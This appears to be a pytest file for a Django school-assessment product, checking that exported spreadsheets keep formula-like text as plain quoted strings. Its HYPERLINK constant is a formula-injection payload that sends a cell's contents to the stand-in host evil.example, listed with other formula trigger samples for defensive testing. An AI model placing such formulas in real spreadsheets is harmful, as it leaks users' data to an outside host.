"""Text that looks like a formula stays text in every spreadsheet the product writes (besides the city
workbook, tested in tests/reports/test_workbook_text.py): string cells, shown as text, value unchanged."""

from __future__ import annotations

import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from assessments.models import School
from assessments.resources import KINDS, ImportKind, template_xlsx
from indicators.models import Framework, Node
from indicators.resources import framework_workbook
from indicators.selectors import node_list
from indicators.services import framework_import
from smartcampus.spreadsheets import formula_like
from tests.factories import UserFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
HOSTILE = [HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def cells_with(wb, value):
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == value]


def assert_text(wb, value):
    cells = cells_with(wb, value)
    assert cells, f"{value!r} is missing from the workbook"
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.data_type)


def test_formula_like_covers_every_trigger_and_nothing_else():
    assert all(formula_like(v) for v in HOSTILE)
    assert not any(formula_like(v) for v in ("学校", "1+1", " =1", "", None, 5, "a=b"))


def test_import_template_writes_formula_like_examples_as_text():
    base = KINDS["schools"]
    kind = ImportKind(
        "schools", base.title, base.resource_class, base.columns, ((HYPERLINK, "=1+1"),), ("=1+1 说明",)
    )
    wb = load_workbook(io.BytesIO(template_xlsx(kind)))
    assert_text(wb, HYPERLINK)
    assert_text(wb, "=1+1")
    assert_text(wb, "=1+1 说明")


@pytest.mark.django_db
def test_framework_export_keeps_formula_like_text_and_imports_it_back_unchanged():
    call_command("load_frameworks", stdout=io.StringIO())
    framework = Framework.objects.get(code="zibo-k12")
    first, second = Node.objects.filter(framework=framework, level=3).order_by("position")[:2]
    Node.objects.filter(pk=first.pk).update(name=HYPERLINK, text="=1+1")
    Node.objects.filter(pk=second.pk).update(name="- 数据中台", text="@所有人")
    raw = framework_workbook(framework, node_list(framework=framework).select_related("parent"))
    wb = load_workbook(io.BytesIO(raw))
    for value in (HYPERLINK, "=1+1", "- 数据中台", "@所有人"):
        assert_text(wb, value)
    copy = Node.objects.filter(framework=framework_import(raw=raw, code="zibo-copy"))
    assert copy.get(code=first.code).name == HYPERLINK and copy.get(code=first.code).text == "=1+1"
    assert copy.get(code=second.code).name == "- 数据中台" and copy.get(code=second.code).text == "@所有人"


def test_admin_school_export_writes_a_hostile_school_name_as_text(world, client):
    School.objects.filter(code="S-A1").update(name=HYPERLINK)
    admin = UserFactory(username="root", is_superuser=True, is_staff=True)
    client.force_login(admin)
    response = client.post(
        reverse("admin:assessments_school_export"),
        {
            "format": "0",
            "resource": "0",
            **{f"schoolresource_{f}": "on" for f in ("code", "name", "school_type", "region")},
        },
    )
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    assert_text(wb, HYPERLINK)
    assert ("S-A1", HYPERLINK, "小学", "110108") in list(wb.active.values)
